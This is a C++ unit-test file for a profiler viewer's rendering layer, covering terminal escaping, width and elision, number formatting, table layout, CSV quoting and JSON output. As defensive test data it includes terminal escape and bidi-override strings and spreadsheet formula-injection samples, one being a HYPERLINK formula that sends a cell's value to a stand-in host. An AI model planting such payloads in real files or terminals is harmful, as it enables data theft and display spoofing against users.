// SPDX-License-Identifier: MIT
// Escaping, widths, elision, numbers, CSV and JSON. Context: tests.
#include <criterion/criterion.h>

#include <algorithm>
#include <clocale>
#include <nlohmann/json.hpp>
#include <random>

#include "test/unit/example_profile.h"
#include "test/unit/random_profile.h"
#include "test/unit/screen_driver.h"
#include "viewer/render/cells.h"
#include "viewer/render/numbers.h"
#include "viewer/render/render.h"
#include "viewer/render/text_table.h"
#include "viewer/view/request.h"

using namespace varve;
using namespace varve::render;

namespace {

bool printable(std::string_view text) {
  for (const char c : text) {
    if ((uint8_t(c) < 0x20 && c != '\n') || c == 0x7f) return false;
  }
  return true;
}

view::View made_view(const char* kind, const test::RandomProfile& made, view::Request request = {}) {
  auto view = view::make(*view::find_kind(kind), {made.profile, made.symbols}, request);
  cr_assert(view.has_value());
  return std::move(*view);
}

}  // namespace

Test(render_escape, what_acts_on_a_terminal) {
  const std::pair<std::string, const char*> cases[] = {
      {"plain", "plain"},
      {"a\x1b[2Jb", "a\\x1b[2Jb"},
      {std::string("nul\0!", 5), "nul\\x00!"},
      {"tab\tnewline\n", "tab\\x09newline\\x0a"},
      {"\x7f", "\\x7f"},
      {"größe", "größe"},
      {"日本", "日本"},
      {"\xc2\x9b"
       "31m",
       "\\u{9b}31m"},  // C1: another way to spell ESC [
      {"\xe2\x80\xae"
       "gnp",
       "\\u{202e}gnp"},                              // right-to-left override
      {"a\u061c1", "a\\u{61c}1"},                    // a direction mark
      {"\xff\xfe", "\\xff\\xfe"},                    // no UTF-8
      {"\xc0\xaf", "\\xc0\\xaf"},                    // overlong
      {"\xed\xa0\x80", "\\xed\\xa0\\x80"},           // surrogate
      {"\xf4\x90\x80\x80", "\\xf4\\x90\\x80\\x80"},  // above the last code
      {"cut \xe6\x97", "cut \\xe6\\x97"},
  };
  for (const auto& [text, wanted] : cases) {
    const std::string got = escape(text);
    cr_expect_eq(got, std::string(wanted), "%s", got.c_str());
  }
  cr_expect_eq(escape("größe", Charset::kAscii), "gr\\u{f6}\\u{df}e");
}

Test(render_escape, any_bytes_become_one_printable_line) {
  std::mt19937_64 random(1);
  for (int i = 0; i < 2000; ++i) {
    std::string bytes;
    for (size_t j = random() % 40; j > 0; --j) bytes += char(random() % (i % 2 == 0 ? 256 : 0xe8));
    for (const Charset charset : {Charset::kUtf8, Charset::kAscii}) {
      const std::string text = escape(bytes, charset);
      cr_expect(printable(text) && text.find('\n') == std::string::npos);
      cr_expect_eq(escape(text, charset), text);
      const size_t width = random() % 20;
      cr_expect_leq(display_width(elide_middle(text, width)), width);
    }
  }
}

Test(render_escape, elision_keeps_both_ends) {
  std::setlocale(LC_CTYPE, "C.UTF-8");
  cr_expect_eq(elide_middle("abcdefghij", 10), "abcdefghij");
  cr_expect_eq(elide_middle("abcdefghij", 9), "abc...hij");
  cr_expect_eq(elide_middle("abcdefghij", 8), "abc...ij");
  cr_expect_eq(elide_middle("abcdefghij", 0), "");
  cr_expect_eq(display_width("日本"), 4);
  const std::string wide = elide_middle("日本語日本語", 8);
  cr_expect_leq(display_width(wide), 8);
  cr_expect(wide.starts_with("日"));
  cr_expect(wide.ends_with("語"));
}

/// A mark that combines with what is left out would stand on the dots, or on what is before.
Test(render_escape, marks_go_with_their_characters) {
  std::setlocale(LC_CTYPE, "C.UTF-8");
  const std::string name = "abcdefg\u0301\u0302hij";
  cr_expect_eq(display_width(name), 10);
  cr_expect_eq(elide_middle(name, 9), "abc...hij");
  cr_expect_eq(elide_middle("abc\u0301defghij", 9), "abc\u0301...hij");
  cr_expect_eq(skip_columns(name, 7), "hij");
  cr_expect_eq(skip_columns(name, 6), "g\u0301\u0302hij");
  cr_expect_eq(skip_columns(name, 0), name);
  cr_expect_eq(skip_columns("日本\u0301語", 3), " 語");
}

Test(render_text, objects_keep_what_tells_them_apart) {
  view::Table table;
  table.columns = {{"object", "Object", view::Unit::kText}};
  const auto shown = [&](std::string_view text, size_t width) { return elide_cell(table, 0, text, width); };
  cr_expect_eq(shown("Condition 0x7f0e90016270 (r::Monitor)", 40), "Condition 0x7f0e90016270 (r::Monitor)");
  cr_expect_eq(shown("Condition 0x7f0e90016270 (r::Monitor)", 30), "Condition 0x7f0e90016270...");
  cr_expect_eq(shown("Condition 0x7f0e90016270 (r::Monitor)", 21), "Condition...e90016270");
  cr_expect_eq(shown("leaq    0x41f12(%rip), %rcx", 20), "leaq    0...p), %rcx",
               "an instruction keeps both ends");
  // Beside functions, too, and who ended waits keeps name and share there.
  table.columns = {{"", "Ended by", view::Unit::kText, false, 0}, {"function", "", view::Unit::kText}};
  cr_expect_eq(shown("Semaphore 0x7f0e90016270 (Posix)", 27), "Semaphore 0x7f0e90016270...");
  cr_expect_eq(shown("node 32510 92%", 13), "node ...0 92%");
}

Test(render_numbers, times_of_one_table_share_a_scale) {
  const std::pair<uint64_t, const char*> cases[] = {
      {0, "0.000 s"},
      {1, "1 ns"},
      {999, "999 ns"},
      {1'234, "1.234 us"},
      {12'345, "12.35 us"},
      {999'999, "1000.0 us"},
      {1'234'567, "1.235 ms"},
      {123'456'789, "123.5 ms"},
      {1'234'567'890, "1.235 s"},
      {12'404'999'999, "12.40 s"},
      {4'000'000'000'000, "4000.00 s"},
  };
  for (const auto& [ns, wanted] : cases) {
    if (ns == 0) continue;
    const std::string got = time_text(ns);
    cr_expect_eq(got, std::string(wanted), "%s instead of %s", got.c_str(), wanted);
  }
  cr_expect_eq(time_number(5'000'000, time_scale(12'000'000'000)), "0.01");
  cr_expect_eq(bytes_text(999), "999 B");
  cr_expect_eq(bytes_text(95'532), "95.5 kB");
  cr_expect_eq(percent(0.5178), "51.8");
}

/// Means of one column may be of microseconds and of minutes.
Test(render_numbers, times_that_stand_alone_are_short) {
  const std::pair<uint64_t, const char*> cases[] = {
      {0, "0ns"},
      {999, "999ns"},
      {1'000, "1.00us"},
      {25'140, "25.1us"},
      {99'949, "99.9us"},
      {99'951, "100us"},
      {999'499, "999us"},
      {999'500, "1.00ms"},
      {9'995'000, "10.0ms"},
      {352'000'000, "352ms"},
      {2'290'000'000, "2.29s"},
      {4'000'000'000'000, "4000s"},
  };
  for (const auto& [ns, wanted] : cases) {
    const std::string got = short_time_text(ns);
    cr_expect_eq(got, std::string(wanted), "%s instead of %s", got.c_str(), wanted);
  }
}

Test(render_text, no_line_is_wider_than_asked) {
  std::setlocale(LC_CTYPE, "C.UTF-8");
  for (uint64_t seed = 0; seed < 5; ++seed) {
    const test::RandomProfile made = test::random_profile(seed);
    for (const view::Kind& kind : view::kinds()) {
      view::Request request;
      request.function = "plain_5";
      for (const size_t width : {40, 50, 60, 80, 120, 200}) {
        request.slices = view::slices_for(width);
        const view::View view = made_view(kind.name, made, request);
        for (const Charset charset : {Charset::kUtf8, Charset::kAscii}) {
          for (const std::string& line : test::lines_of(text(view, {width, charset, false}))) {
            cr_expect_leq(display_width(line), width, "%s at %zu: %s", kind.name, width, line.c_str());
            cr_expect(printable(line));
            cr_expect(charset == Charset::kUtf8 || escape(line, Charset::kAscii) == line);
          }
        }
      }
    }
  }
}

namespace {

/// Two numbers, one of which can be spared, a name and a last name.
view::Table small_table(const char* name, const char* last) {
  view::Table table;
  table.columns = {{"", "Aaaa", view::Unit::kNumber},
                   {"", "Bbbb", view::Unit::kNumber, false, -1, 1},
                   {"", "Name", view::Unit::kText},
                   {"", "Last", view::Unit::kText}};
  table.add({}, {uint64_t(1), uint64_t(2), std::string_view(name), std::string_view(last)});
  return table;
}

std::string first_row(const view::Table& table, size_t width) {
  return test::lines_of(text_table(table, {width, Charset::kAscii, false}).text).at(1);
}

}  // namespace

Test(render_text, a_table_that_fits_loses_nothing) {
  const view::Table table = small_table("fourteen-chars", "short");
  const std::string whole = "   1     2  fourteen-chars  short";  // 33 columns
  cr_expect_eq(first_row(table, 0), whole);
  cr_expect_eq(first_row(table, 33), whole);
}

Test(render_text, names_give_way_before_columns_go) {
  const view::Table table = small_table("fourteen-chars", "short");
  cr_expect_eq(first_row(table, 32), "   1     2  fourt...chars  short");
  cr_expect_eq(first_row(table, 29), "   1     2  four...ars  short");
  cr_expect_eq(first_row(table, 28), "   1  fourteen-chars  short");
  cr_expect_eq(first_row(table, 23), "   1  four...ars  short");
}

Test(render_text, headings_are_escaped) {
  view::Table table = small_table("name", "last");
  table.columns[1].title = "B\x1b[2J";
  table.columns[3].title = "\u202eL";
  for (const size_t width : {0, 30})
    cr_expect(printable(text_table(table, {width, Charset::kUtf8, false}).text));
  cr_expect(test::lines_of(text_table(table, {}).text).at(0) == "Aaaa  B\\x1b[2J  Name  \\u{202e}L");
}

Test(render_text, the_last_name_has_what_is_left_over) {
  const view::Table table = small_table("fourteen-chars", "a-last-name-that-is-much-longer-than-the-least");
  for (size_t width = 30; width < 90; ++width) {
    const std::string row = first_row(table, width);
    cr_expect_leq(row.size(), width);
    cr_expect_geq(row.size(), std::min<size_t>(width, 74), "%zu: %s", width, row.c_str());
  }
}

Test(render_text, threads_show_all_columns_that_fit) {
  const auto heading = [](size_t width) {
    const test::RandomProfile made = test::example_profile();
    return test::lines_of(text(made_view("threads", made), {width, Charset::kAscii, false})).at(0);
  };
  cr_expect_eq(heading(80), "CPU s  CPU%  Inactive s  Wait s  Poor s  -Po =Ok #Id !Ov    TID  Thread");
  cr_expect_eq(heading(60), "CPU s  CPU%  Inactive s  Wait s  Poor s   TID  Thread");
  cr_expect_eq(heading(40), "CPU s  CPU%  Wait s   TID  Thread");
  test::RandomProfile unobserved = test::example_profile();
  unobserved.profile.run_states = {};
  cr_expect_eq(test::lines_of(text(made_view("threads", unobserved), {80, Charset::kAscii, false})).at(0),
               "CPU s  CPU%  Start s  Lifetime s  Samples   PID   TID  Program   Thread");
}

Test(render_text, the_summary_fits_into_a_terminal) {
  test::RandomProfile made = test::example_profile(), long_command = test::example_profile();
  long_command.profile.session.command = std::string(1000, 'x');
  for (const test::RandomProfile* each : {&made, &long_command}) {
    const auto lines = test::lines_of(text(made_view("summary", *each), {80, Charset::kUtf8, false}));
    cr_expect_leq(lines.size(), 23);  // and the prompt
  }
}

Test(render_text, deep_trees_say_what_their_marks_are) {
  view::Table table;
  table.id = "t";
  table.columns = {{"", "N", view::Unit::kNumber}, {"", "Tree", view::Unit::kText, true}};
  for (uint32_t i = 0; i < 12; ++i) {
    for (int twin = 0; twin < 2; ++twin) table.add({i, {}, false}, {uint64_t(i), std::string_view("f")});
  }
  view::View view;
  view.tables = {table};
  cr_expect(text(view, {60, Charset::kAscii, false}).find("+N: so many") != std::string::npos);
  cr_expect(text(view, {0, Charset::kAscii, false}).find("+N: so many") == std::string::npos);
}

Test(render_text, colour_changes_no_letter) {
  const test::RandomProfile made = test::random_profile(2);
  for (const view::Kind& kind : view::kinds()) {
    view::Request request;
    request.function = "plain_5";
    const view::View view = made_view(kind.name, made, request);
    const std::string plain = text(view, {80, Charset::kUtf8, false});
    const std::string painted = text(view, {80, Charset::kUtf8, true});
    if (!std::ranges::all_of(view.tables, &view::Table::only_data))
      cr_expect(painted.find('\x1b') != std::string::npos);
    std::string stripped;
    for (size_t i = 0; i < painted.size(); ++i) {
      if (painted[i] == '\x1b') {
        i = painted.find('m', i);
      } else {
        stripped += painted[i];
      }
    }
    cr_expect_eq(stripped, plain);
  }
}

Test(render_csv, quotes_by_rfc_4180) {
  view::View view;
  view::Table table;
  table.id = "t";
  table.columns = {
      {"name", "", view::Unit::kText}, {"n", "", view::Unit::kCount}, {"p", "", view::Unit::kShare}};
  const char* names[] = {"plain", "a,b", "say \"hi\"", "new\nline", " blank ", "\x1b[31m", ""};
  for (const char* name : names) table.add({}, {std::string_view(name), uint64_t(7), 0.25});
  table.add({}, {{}, {}, {}});
  view.tables.push_back(table);
  const auto rows = test::read_csv(csv(view));
  cr_assert_eq(rows.size(), std::size(names) + 2);
  cr_expect(rows[0] == (std::vector<std::string>{"name", "n", "p"}));
  for (size_t i = 0; i < std::size(names); ++i) {
    cr_expect_eq(rows[i + 1][0], escape(names[i]), "%s", rows[i + 1][0].c_str());
    cr_expect_eq(rows[i + 1][1], "7");
    cr_expect_eq(std::stod(rows[i + 1][2]), 0.25);
  }
  cr_expect(rows.back() == (std::vector<std::string>{"", "", ""}));
}

Test(render_csv, names_are_no_formulas) {
  view::View view;
  view::Table table;
  table.columns = {{"name", "", view::Unit::kText}, {"n", "", view::Unit::kCount}};
  const char* formulas[] = {"=HYPERLINK(\"http://x/\"&A1)",
                            "+1",
                            "-[View draw]",
                            "@SUM(A1)",
                            "'=1",
                            "\uff1d1",
                            "\uff0b1",
                            "\uff0d1",
                            "\uff20x"};
  const char* harmless[] = {"operator==", "a=b", "[main thread]", "\t=1", "5-3", "~Index", "\uff11"};
  for (const char* name : formulas) table.add({}, {std::string_view(name), uint64_t(7)});
  for (const char* name : harmless) table.add({}, {std::string_view(name), uint64_t(7)});
  table.add({}, {std::string_view("x;=1"), uint64_t(7)});
  view.tables.push_back(table);
  const std::string text = csv(view);
  const auto rows = test::read_csv(text);
  size_t row = 1;
  for (const char* name : formulas) cr_expect_eq(rows[row++][0], std::string("'") + name, "%s", name);
  for (const char* name : harmless) cr_expect_eq(rows[row++][0], escape(name), "%s", name);
  for (size_t i = 1; i < rows.size(); ++i) cr_expect_eq(rows[i][1], "7");  // numbers are as they were
  cr_expect(text.ends_with("\n\"x;=1\",7\n"), "some spreadsheets divide at semicolons that are not quoted");
}

Test(render_json, is_json_with_the_named_fields) {
  const test::RandomProfile made = test::random_profile(6);
  for (const view::Kind& kind : view::kinds()) {
    view::Request request;
    request.function = "plain_5";
    const auto parsed = nlohmann::json::parse(json(made_view(kind.name, made, request)));
    cr_expect_eq(parsed["view"], kind.name);
    cr_expect_eq(parsed["ledger"]["cpu_ns"], made.profile.kernel_cpu.count);
  }
  const auto summary = nlohmann::json::parse(json(made_view("summary", made)));
  for (const char* field :
       {"command", "exit", "elapsed_ns", "cpu_ns", "sampled_ns", "residual_ns", "unsampled_ns", "samples",
        "lost", "interval_ns", "threads", "processes", "whole_stack_share", "handler_ns", "profile_bytes"}) {
    cr_expect(summary.contains(field), "%s", field);
  }
  cr_expect_eq(summary["exit"], 0);
  cr_expect_eq(uint64_t(summary["cpu_ns"]), made.profile.kernel_cpu.count);
  cr_expect_eq(uint64_t(summary["samples"]), made.profile.sample_count);
}
